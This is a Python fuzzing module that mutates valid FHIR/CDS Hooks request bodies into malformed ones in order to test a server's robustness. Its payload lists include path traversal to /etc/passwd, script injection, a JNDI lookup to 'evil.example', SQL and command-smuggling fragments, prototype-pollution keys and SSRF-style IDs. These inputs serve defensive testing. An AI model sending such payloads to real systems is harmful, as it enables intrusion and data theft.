"""Bodies that no honest client sends, made from good ones by a seeded generator: the same ones in every run."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from random import Random
from typing import Any

import orjson

Mutation = Callable[[Any, Random], bytes]

NAMES = [
    "__proto__", "constructor", "prototype", "__class__", "__init__", "toString", "hasOwnProperty", "", " ", "id",
    "resourceType", "reference", "\x00", "$ref", "$where", "../..", "a.b", "\u202e", "x" * 1000,
]  # fmt: skip
IDS = [
    "../../etc/passwd", "..", ".", "a/b", "a\\b", "%2e%2e%2f", "1&_count=9999", "1?x=1", "p1#x", "p1\n", "p1\x00",
    "p 1", "", "*", "x" * 600, "p1,p2", "p1|p2", "Patient/p1", "http://evil.example/Patient/p1", "urn:uuid:1", "${7*7}",
    "p1;rm", "p1'--", "\u0665", "\uff50\uff11", "p1\u200b", "-" * 256, "." * 300,
]  # fmt: skip
TEXTS = [
    "", "\x00", "\ud800", "\udfff\ud800", "\u202e\u2066", "\ufeff", "\U0001f4a5" * 50, "<script>alert(1)</script>",
    "x" * 10_000, "[a](javascript:alert(1))", "{{7*7}}", "${jndi:ldap://evil.example}", "%s%n%x", "a" * 30 + "!" * 30,
    "'; drop table", "2026-02-30", "9999-99-99", "0000-00-00", "-1", "1e400", "null", "true", "NaN",
]  # fmt: skip
NUMBERS = [0, -0.0, -1, 1e308, -1e308, 5e-324, 2**53 + 1, 2**63, -(2**63) - 1, 10**400, 1e16, 0.1 + 0.2]
MEMBERS = ["hook", "context", "prefetch", "fhirServer", "fhirAuthorization", "draftOrders", "entry", "resource", "code",
           "coding", "system", "subject", "extension", "contained", "patientId", "feedback", "card"]  # fmt: skip


def hostile_value(random: Random) -> Any:
    kind = random.randrange(9)
    if kind == 0:
        return random.choice([None, True, False, [], {}, [[]], [{}], [None], {"": None}])
    if kind == 1:
        return random.choice(NUMBERS)
    if kind == 2:
        return random.choice(TEXTS)
    if kind == 3:
        return random.choice(IDS)
    if kind == 4:
        return nested(random.choice([5, 60, 150, 400]), random)
    if kind == 5:
        return {name: random.choice(TEXTS) for name in NAMES}
    if kind == 6:
        return [random.choice(NUMBERS) for _ in range(random.choice([1, 100, 1000]))]
    if kind == 7:
        return {"resourceType": random.choice(["Patient", "Bundle", "OperationOutcome", "ServiceRequest", "Evil", 5])}
    return [{"reference": random.choice(IDS)}, {"coding": random.choice([{}, 5, [5], [[]], [{"code": 5}]])}]


def nested(depth: int, random: Random) -> Any:
    value: Any = random.choice(TEXTS)
    for _ in range(depth):
        value = random.choice([[value], {"a": value}, {"extension": [value]}, {"contained": [value]}])
    return value


def places(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """The path of every member and element."""
    members = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for name, member in members:
        yield (*path, name)
        yield from places(member, (*path, name))


def holder(value: Any, path: tuple[Any, ...]) -> Any:
    for name in path[:-1]:
        value = value[name]
    return value


def fresh(body: Any) -> Any:
    """A copy; ten times faster than `deepcopy`."""
    return orjson.loads(orjson.dumps(body))


def encoded(value: Any) -> bytes:
    """JSON as JavaScript would write it: NaN, and halves of surrogates as escapes."""
    return json.dumps(value).encode()


def replace_some(body: Any, random: Random) -> bytes:
    """One to four members become something else."""
    body = fresh(body)
    for _ in range(random.randint(1, 4)):
        path = random.choice([*places(body)])
        holder(body, path)[path[-1]] = hostile_value(random)
        if not isinstance(body, dict | list) or not [*places(body)]:
            break
    return encoded(body)


def retype_all(body: Any, random: Random) -> bytes:
    """Every string, number, list or object of one name or kind becomes the same wrong thing."""
    body = fresh(body)
    name = random.choice([*MEMBERS, "id", "reference", "url", "status", "total", "birthDate", "onsetDateTime"])
    wrong = hostile_value(random)
    for path in [*places(body)]:
        try:
            owner = holder(body, path)
            if path[-1] == name and isinstance(owner, dict):
                owner[name] = wrong
        except (KeyError, IndexError, TypeError):  # gone with what was replaced before
            continue
    return encoded(body)


def remove_some(body: Any, random: Random) -> bytes:
    body = fresh(body)
    for _ in range(random.randint(1, 5)):
        paths = [*places(body)]
        if paths:
            path = random.choice(paths)
            del holder(body, path)[path[-1]]
    return encoded(body)


def strange_names(body: Any, random: Random) -> bytes:
    body = fresh(body)
    for _ in range(random.randint(1, 6)):
        path = random.choice([*places(body)])
        owner = holder(body, path)
        if isinstance(owner, dict):
            owner[random.choice(NAMES)] = hostile_value(random)
    return encoded(body)


def trick_ids(body: Any, random: Random) -> bytes:
    body = fresh(body)
    trick = random.choice(IDS)
    named = [path for path in places(body) if path[-1] in ("id", "reference", "patientId", "encounterId", "userId",
                                                           "fullUrl", "card", "fhirServer")]  # fmt: skip
    for path in random.sample(named, min(len(named), random.randint(1, 3))):
        prefix = random.choice(["", "Patient/", "ServiceRequest/", "http://127.0.0.1:9/fhir/Patient/"])
        holder(body, path)[path[-1]] = prefix + trick
    return encoded(body)


def repeat_names(body: Any, random: Random) -> bytes:
    """The same member twice, with two values: two readers would see two requests."""
    text = encoded(body).decode()
    name = random.choice(MEMBERS)
    other = json.dumps(hostile_value(random))
    at = [place for place in range(len(text)) if text.startswith("{", place)]
    place = random.choice(at) + 1
    return (text[:place] + f'"{name}": {other}, "{name}": {other}, ' + text[place:]).encode()


def damage_bytes(body: Any, random: Random) -> bytes:
    raw = bytearray(encoded(body))
    for _ in range(random.choice([1, 1, 2, 5, 20])):
        place = random.randrange(len(raw))
        match random.randrange(4):
            case 0:
                raw[place] = random.randrange(256)
            case 1:
                del raw[place : place + random.randint(1, 30)]
            case 2:
                raw[place:place] = raw[place : place + random.randint(1, 200)]
            case _:
                raw[place:place] = random.choice(
                    [b"\x00", b"\xff\xfe", b"\\ud800", b"[" * 50, b'"', b"{", b"]", b"1e999"]
                )
    return bytes(raw)


def cut_off(body: Any, random: Random) -> bytes:
    raw = encoded(body)
    return raw[: random.randrange(len(raw))]


def other_encoding(body: Any, random: Random) -> bytes:
    text = encoded(body).decode()
    return random.choice([
        text.encode("utf-16"), text.encode("utf-32"), b"\xef\xbb\xbf" + text.encode(), text.encode("utf-7"),
        b"\x00" + text.encode(), text.encode() + b"\x00", text.encode() * 2,
        text.replace("a", "\xe9").encode("latin-1"), b"hook=order-sign&context=", b"<xml/>", b"",
    ])  # fmt: skip


def too_deep(body: Any, random: Random) -> bytes:
    """Deeper than any decoder should follow, as the whole body or inside of it."""
    depth = random.choice([900, 1100, 3000, 20_000])
    opening, closing = random.choice([(b"[", b"]"), (b'{"a":', b"}"), (b'{"contained":[', b"]}")])
    deep = opening * depth + b"1" + closing * depth
    if random.random() < 0.3:
        return deep
    raw = encoded(body)
    place = raw.find(b"{", random.randrange(len(raw)))
    return raw[: place + 1] + b'"x":' + deep + (b"," if raw[place + 1 : place + 2] != b"}" else b"") + raw[place + 1 :]


def many(body: Any, random: Random) -> bytes:
    """A list of the request repeated many times."""
    body = fresh(body)
    lists = [path for path in places(body) if isinstance(holder(body, path)[path[-1]], list)]
    path = random.choice(lists) if lists else None
    if path:
        found = holder(body, path)[path[-1]]
        holder(body, path)[path[-1]] = (found or [hostile_value(random)]) * random.choice([10, 100, 200])
    return encoded(body)


# Weights: the cheap and fruitful ones more often.
MUTATIONS: dict[Mutation, int] = {
    replace_some: 26, retype_all: 12, remove_some: 8, strange_names: 10, trick_ids: 14, repeat_names: 6,
    damage_bytes: 10, cut_off: 4, other_encoding: 4, too_deep: 4, many: 2,
}  # fmt: skip


def bodies(good: list[tuple[str, Any]], number: int, seed: int) -> Iterator[tuple[str, str, bytes]]:
    """(path, name of the mutation, body), `number` of them, from `good` requests with their paths."""
    random = Random(seed)  # noqa: S311
    kinds, weights = [*MUTATIONS], [*MUTATIONS.values()]
    for _ in range(number):
        path, body = random.choice(good)
        mutate = random.choices(kinds, weights)[0]
        try:
            made = mutate(body, random)
        except RecursionError:  # the generator's own, on what it has nested before
            made = b"[" * 100_000
        yield path, mutate.__name__, made
